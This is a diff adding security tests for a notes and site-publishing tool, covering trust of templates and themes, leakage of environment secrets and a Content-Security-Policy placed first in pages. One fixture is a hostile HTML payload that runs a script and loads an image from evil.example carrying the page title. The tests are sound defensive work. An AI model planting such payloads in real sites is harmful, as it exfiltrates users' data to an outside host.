@@ -84,6 +84,73 @@ import Testing
     #expect(session.run(["new", "B"]).status == 64)
   }
 
+  @Test(arguments: ["work/plan", "a/b/c", ".hidden/x", "1/2/3/4/5/6/7/8/9"])
+  func `trust covers a template at any depth, as it was`(name: String) throws {
+    let session = try CommandSession(environment: ["SECRET": "key"])
+    let file = ".sheaf/templates/\(name).md"
+    try session.folder.write("# {{title}}\n", to: file)
+    _ = session.run(["config", "trust"])
+    try session.folder.write("{{env.SECRET}}\n", to: file)
+    #expect(session.run(["new", "A", "--template", name]).status == 64)
+    #expect(!session.folder.files().contains("Memo/A.md"))
+  }
+
+  @Test func `a theme that is not trusted is not used, and that is reported once`() throws {
+    let hostile = "<script>fetch('/')</script><img src='https://evil.example/{{title}}'>"
+    for name in ["page.html", "note.html", "style.css", "more.css", "sub/x.html", "a.js"] {
+      try session.folder.write(hostile, to: ".sheaf/theme/" + name)
+    }
+    func site() throws -> (errors: String, isHostile: Bool) {
+      let site = try TemporaryFolder()
+      let errors = session.run(["publish", "-o", site.path]).errors
+      let texts = try site.files().map { String(decoding: try site.read($0), as: UTF8.self) }
+      return (errors, texts.contains { $0.contains("evil.example") })
+    }
+    let first = try site()
+    #expect(!first.isHostile)
+    #expect(
+      first.errors.contains(
+        """
+        warning: Templates, style sheets and scripts of a theme are used only in a repository that you trust:
+          .sheaf/theme/a.js
+          .sheaf/theme/more.css
+          .sheaf/theme/note.html
+          .sheaf/theme/page.html
+          .sheaf/theme/style.css
+          .sheaf/theme/sub/x.html
+        """))
+    #expect(!(try site().errors.contains("theme")))
+    _ = session.run(["config", "trust"])
+    #expect(try site().isHostile)
+    try session.folder.write(hostile + "!", to: ".sheaf/theme/sub/x.html")
+    let lapsed = try site()
+    #expect(!lapsed.isHostile)
+    #expect(lapsed.errors.contains("The theme was changed since you trusted it"))
+  }
+
+  @Test(arguments: [
+    "<!doctype html>\n<html lang='a'>\n<head>{{{content}}}</head>",
+    "<html a=b\"c><head>{{{content}}}",
+    "{{{content}}}", "<!--<head>-->{{{content}}}",
+    "<!DOCTYPE html><script>x()</script>{{{content}}}",
+    "<header><head>{{{content}}}",
+  ])
+  func `the policy is in a page before anything else, whatever its template says`(
+    template: String
+  ) throws {
+    try session.folder.write(template, to: ".sheaf/theme/page.html")
+    _ = session.run(["config", "trust"])
+    let site = try TemporaryFolder()
+    #expect(session.run(["publish", "-o", site.path]).status == 0)
+    let page = String(decoding: try site.read("notes/a.html"), as: UTF8.self)
+    let policy = try #require(
+      page.range(of: "<meta http-equiv=\"Content-Security-Policy\" content="))
+    let before = page[..<policy.lowerBound].replacing(
+      #/<!doctype html>|<html lang='a'>|<head>|\s/#.ignoresCase(), with: "")
+    #expect(before == "")
+    #expect(page[policy.upperBound...].hasPrefix("\"default-src 'none'; "))
+  }
+
   @Test(arguments: ["{{#env}}{{SECRET}}{{/env}}", "{{=<% %>=}}<% env.SECRET %>", "{{{env}}}"])
   func `no way of writing a template gets at the environment`(template: String) throws {
     let session = try CommandSession(environment: ["SECRET": "key"])
